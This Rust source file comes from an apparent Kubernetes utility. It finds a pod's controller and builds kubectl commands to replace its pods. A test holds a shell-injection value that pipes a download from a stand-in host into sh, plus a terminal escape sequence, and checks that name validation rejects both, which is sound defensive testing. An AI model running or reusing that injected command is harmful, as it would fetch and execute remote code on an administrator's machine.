//! The controller of a pod, and how to replace its pods.

use std::fmt;

use serde_json::Value;

use crate::{
    injection::settings::is_dns_subdomain,
    kube::fields::{flag, list, text},
};

/// The controller of a pod, as users know it.
#[derive(Clone, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct Owner {
    /// Its kind; empty for a pod without a controller.
    pub(crate) kind: String,
    /// Its name.
    pub(crate) name: String,
}

impl Owner {
    /// The controller of a pod. The name of a Deployment's ReplicaSet is the Deployment's, followed by the hash of the
    /// pod template (`deployment_controller.go`), which the pods have as a label.
    pub(crate) fn of(pod: &Value) -> Self {
        let mut references = list(pod, "/metadata/ownerReferences").iter();
        let Some(owner) = references.find(|reference| flag(reference, "/controller") == Some(true)) else {
            return Self::default();
        };
        let owner = Self::named(text(owner, "/kind"), text(owner, "/name"));
        let hash = text(pod, "/metadata/labels/pod-template-hash");
        let deployment = owner.name.strip_suffix(hash).and_then(|name| name.strip_suffix('-'));
        match deployment.filter(|_| owner.kind == "ReplicaSet" && !hash.is_empty()) {
            Some(name) => Self { kind: "Deployment".to_owned(), name: name.to_owned() },
            None => owner,
        }
    }

    /// It, or the pod of this name where that has no controller.
    pub(crate) fn or_pod(self, name: &str) -> Self {
        if self.kind.is_empty() { Self::named("Pod", name) } else { self }
    }

    /// Invalid names are not shown: anyone who creates a pod can write them, and the remedy is a command for an
    /// administrator's shell.
    fn named(kind: &str, name: &str) -> Self {
        let is_kind = !kind.is_empty() && kind.bytes().all(|c| c.is_ascii_alphanumeric());
        if is_kind && is_dns_subdomain(name) {
            return Self { kind: kind.to_owned(), name: name.to_owned() };
        }
        Self { kind: "owner".to_owned(), name: "?".to_owned() }
    }

    /// How to replace its pods.
    pub(crate) fn remedy(&self, namespace: &str, pods: &[&str]) -> String {
        let pods = pods.join(" ");
        match &*self.kind {
            "Deployment" | "StatefulSet" | "DaemonSet" => {
                format!("kubectl rollout restart -n {namespace} {self}")
            }
            "" => format!(
                "delete it (kubectl delete pod -n {namespace} {pods}) and create it again: it has no controller"
            ),
            _ => format!("kubectl delete pod -n {namespace} {pods}"),
        }
    }
}

/// As kubectl takes it.
impl fmt::Display for Owner {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &*self.kind {
            "" => f.write_str("none"),
            kind => write!(f, "{}/{}", kind.to_lowercase(), self.name),
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn owner(kind: &str, name: &str, hash: Value) -> Owner {
        Owner::of(&json!({"metadata": {
            "labels": {"pod-template-hash": hash},
            "ownerReferences": [{"kind": "Thing", "name": "t"}, {"kind": kind, "name": name, "controller": true}],
        }}))
    }

    #[test]
    fn the_hash_of_a_deployments_replica_set_is_taken_off() {
        for (kind, name, hash, expected) in [
            ("ReplicaSet", "api-5d4f", json!("5d4f"), "deployment/api"),
            ("ReplicaSet", "api-5d4f", json!(null), "replicaset/api-5d4f"),
            ("ReplicaSet", "api-5d4f", json!("other"), "replicaset/api-5d4f"),
            ("StatefulSet", "db-5d4f", json!("5d4f"), "statefulset/db-5d4f"),
            ("Job", "nightly", json!(null), "job/nightly"),
            ("Deployment", "x; curl evil.example|sh #", json!(null), "owner/?"),
            ("Ev\u{1b}[31mil", "x", json!(null), "owner/?"),
        ] {
            assert_eq!(owner(kind, name, hash).to_string(), expected);
        }
        assert_eq!(Owner::of(&json!({"metadata": {}})).to_string(), "none");
    }

    #[test]
    fn the_cure_fits_what_makes_the_pods() {
        let remedy = |kind: &str| owner(kind, "x", json!(null)).remedy("ns", &["x-1", "x-2"]);
        assert_eq!(remedy("DaemonSet"), "kubectl rollout restart -n ns daemonset/x");
        assert_eq!(remedy("Job"), "kubectl delete pod -n ns x-1 x-2");
        assert!(Owner::default().remedy("ns", &["x-1"]).contains("create it again"));
    }
}
